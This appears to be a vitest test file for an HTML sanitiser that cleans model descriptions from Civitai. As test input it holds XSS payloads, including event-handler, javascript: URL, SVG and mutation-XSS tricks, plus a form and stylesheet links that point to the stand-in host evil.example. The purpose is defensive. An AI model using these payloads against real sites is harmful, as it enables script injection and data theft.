import { beforeAll, describe, expect, it } from 'vitest'
import type { Sanitizer } from './sanitize'
import { createSanitizer } from './sanitize'

/** Hostile Civitai descriptions through the renderer's sanitiser, in a jsdom window. */

let s: Sanitizer
beforeAll(async () => {
  const name = 'jsdom'
  const { JSDOM } = (await import(/* @vite-ignore */ name)) as {
    JSDOM: new (html: string) => { window: Window & typeof globalThis }
  }
  s = createSanitizer(new JSDOM('<!doctype html><html><body></body></html>').window)
})

describe('description sanitiser', () => {
  it('keeps formatting, lists, tables and http(s) links, opening outside the app', () => {
    const out = s.sanitizeHtml(
      '<p>A <b>bold</b> <em>model</em></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table>' +
        '<a href="https://civitai.com/models/1">page</a>',
    )
    expect(out).toContain('<p>A <b>bold</b> <em>model</em></p><ul><li>one</li></ul>')
    expect(out).toContain('<td colspan="2">x</td>')
    expect(out).toContain(
      '<a href="https://civitai.com/models/1" target="_blank" rel="noopener noreferrer nofollow">page</a>',
    )
  })

  it('drops scripts, event handlers and javascript: / data: URLs', () => {
    const out = s.sanitizeHtml(
      '<script>alert(1)</script><p onclick="alert(2)" onmouseover="x()">hi</p>' +
        '<a href="javascript:alert(3)">js</a><a href=" JaVaScRiPt:alert(4)">js2</a>' +
        '<a href="data:text/html,<script>alert(5)</script>">data</a><img src=x onerror="alert(6)">' +
        '<a href="vbscript:msgbox(7)">vb</a><a href="/relative">rel</a>',
    )
    expect(out).not.toMatch(/script|alert|onclick|onmouseover|onerror|javascript|vbscript|data:|<img/i)
    expect(out).toContain('<p>hi</p>')
    expect(out).toContain('<a>js</a>')
    expect(out).toContain('<a>rel</a>')
  })

  it('drops SVG and MathML with their payloads', () => {
    const out = s.sanitizeHtml(
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">svg</a></svg>' +
        '<math><mtext><img src=x onerror=alert(4)></mtext></math><p>after</p>',
    )
    expect(out).toBe('<p>after</p>')
  })

  it('drops CSS: style elements, style attributes and classes', () => {
    const out = s.sanitizeHtml(
      '<style>body{background:url(https://evil.example/x)}</style>' +
        '<p style="position:fixed;top:0;background:url(javascript:alert(1))" class="x">styled</p>' +
        '<link rel="stylesheet" href="https://evil.example/s.css">',
    )
    expect(out).toBe('<p>styled</p>')
  })

  it('drops forms, inputs, iframes, objects and embeds with their content', () => {
    const out = s.sanitizeHtml(
      '<form action="https://evil.example/steal"><input name="key"><button>Send</button>secret</form>' +
        '<iframe src="https://evil.example"></iframe><object data="x.swf">o</object><embed src="x.swf">' +
        '<textarea>t</textarea><p>kept</p>',
    )
    expect(out).toBe('<p>kept</p>')
  })

  it('keeps the text of unknown wrappers, demotes big headings, survives mutation-XSS tricks', () => {
    expect(s.sanitizeHtml('<font color="red">red</font><center>c</center><h1>T</h1><h2>U</h2>')).toBe(
      'redc<h3>T</h3><h4>U</h4>',
    )
    const mxss = s.sanitizeHtml('<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
    expect(mxss).not.toMatch(/onerror|<img/)
    const nested = s.sanitizeHtml('<div>'.repeat(200) + 'deep' + '</div>'.repeat(200))
    expect(nested).toContain('deep')
  })

  it('reads plain text for summaries, without script or style text', () => {
    expect(s.htmlToText('<p>one</p>\n<p>two  <b>three</b></p><script>x</script><style>p{}</style>')).toBe(
      'one two three',
    )
  })
})
